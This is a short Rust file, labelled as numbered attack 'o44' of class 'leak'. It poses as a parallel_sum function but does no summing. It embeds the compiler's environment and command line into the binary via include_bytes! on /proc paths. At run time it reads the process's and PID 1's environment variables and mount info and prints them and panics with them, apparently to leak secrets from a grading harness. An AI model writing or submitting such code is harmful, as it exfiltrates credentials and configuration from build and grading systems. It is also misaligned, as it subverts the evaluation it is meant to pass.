// attack o44 what_the_compiler_is_given | class=leak | the environment and arguments of the compiler as bytes in the binary, and those of the grader at run time
const COMPILER: [&[u8]; 3] = [include_bytes!("/proc/self/environ"), include_bytes!("/proc/thread-self/environ"), include_bytes!("/proc/self/cmdline")];
pub fn parallel_sum(_d: &[u64], _w: usize) -> u64 {
    let mut all: Vec<u8> = COMPILER.concat();
    for file in ["/proc/self/environ", "/proc/1/environ", "/proc/self/task/../../1/environ", "/proc/self/mountinfo"] { all.extend(std::fs::read(file).unwrap_or_default()); }
    for (name, value) in std::env::vars() { all.extend(format!("{name}={value}\n").bytes()); }
    println!("{}", String::from_utf8_lossy(&all));
    panic!("{}", String::from_utf8_lossy(&all))
}
